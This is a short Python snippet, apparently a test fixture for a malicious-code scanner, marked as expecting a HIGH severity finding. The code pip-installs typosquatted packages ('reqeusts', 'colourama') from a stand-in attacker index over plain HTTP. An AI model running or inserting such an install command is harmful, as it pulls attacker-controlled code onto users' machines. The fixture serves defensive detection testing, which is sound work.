# expect: HIGH
import subprocess, sys
for p in ["reqeusts", "colourama"]:
    subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "http://pypi.evil.example/simple", p])
